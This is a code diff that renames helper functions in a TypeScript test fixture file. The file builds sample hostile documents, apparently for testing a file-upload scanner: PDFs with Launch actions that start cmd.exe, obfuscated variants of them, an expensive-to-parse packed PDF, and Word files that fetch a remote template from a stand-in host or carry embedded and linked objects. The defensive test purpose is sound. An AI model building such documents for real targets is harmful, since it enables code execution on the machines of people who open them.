@@ -1,19 +1,19 @@
 import { deflateSync } from 'node:zlib'
-import { aCompoundFile, aWordDocument, relations, type Sample, word } from './files.ts'
-import { aZip, type ZipEntry } from './zip.ts'
+import { buildCompoundFile, buildWordDocument, relations, type Sample, wordType } from './files.ts'
+import { buildZip, type ZipEntry } from './zip.ts'
 
 const inWord = (...parts: ZipEntry[]): Sample => ({
   fileName: 'a.docx',
-  contentType: word,
-  bytes: aWordDocument(parts),
+  contentType: wordType,
+  bytes: buildWordDocument(parts),
 })
 const inZip = (entry: ZipEntry): Sample => ({
   fileName: 'a.zip',
   contentType: 'application/zip',
-  bytes: aZip([entry]),
+  bytes: buildZip([entry]),
 })
 
-const aLaunchingPdf = (objects: string | Buffer): Sample => ({
+const buildLaunchingPdf = (objects: string | Buffer): Sample => ({
   fileName: 'cv.pdf',
   contentType: 'application/pdf',
   bytes: Buffer.concat([
@@ -31,15 +31,15 @@ const packed = (objects: string): Buffer =>
 const settings = 'word/_rels/settings.xml.rels'
 const launching = '<< /S /Launch /F (cmd.exe) >>'
 
-/** Takes long to open, and says nothing. */
-export const packedTooOften: Sample = aLaunchingPdf('/ObjStm stream\nx endstream '.repeat(300_000))
+/** Takes long to open, and shows nothing. */
+export const packedTooOften: Sample = buildLaunchingPdf('/ObjStm stream\nx endstream '.repeat(300_000))
 
 /** Documents that start or fetch something when they are opened. */
 export const activeSamples = [
-  ['a PDF that starts a program', aLaunchingPdf(launching)],
-  ['the same with its name in numbers', aLaunchingPdf('<< /S /#4caunch /F (cmd.exe) >>')],
-  ['the same with a comment between', aLaunchingPdf('<< /S%x\n/Launch /F (cmd.exe) >>')],
-  ['the same in packed objects', aLaunchingPdf(packed(launching))],
+  ['a PDF that starts a program', buildLaunchingPdf(launching)],
+  ['the same with its name in numbers', buildLaunchingPdf('<< /S /#4caunch /F (cmd.exe) >>')],
+  ['the same with a comment between', buildLaunchingPdf('<< /S%x\n/Launch /F (cmd.exe) >>')],
+  ['the same in packed objects', buildLaunchingPdf(packed(launching))],
   ['a template elsewhere', inWord(relations(settings, ['attachedTemplate', 'https://lur.example/x.dotm']))],
   [
     'a template on a share',
@@ -74,7 +74,7 @@ export const activeSamples = [
   ],
   [
     'an embedded object',
-    inWord({ name: 'word/embeddings/oleObject1.bin', content: aCompoundFile('Package') }),
+    inWord({ name: 'word/embeddings/oleObject1.bin', content: buildCompoundFile('Package') }),
   ],
   [
     'a linked object',
@@ -84,7 +84,7 @@ export const activeSamples = [
     'such a document in an archive',
     inZip({
       name: 'x.docx',
-      content: aWordDocument([relations(settings, ['attachedTemplate', 'https://lur.example/x.dotm'])]),
+      content: buildWordDocument([relations(settings, ['attachedTemplate', 'https://lur.example/x.dotm'])]),
     }),
   ],
 ] as const
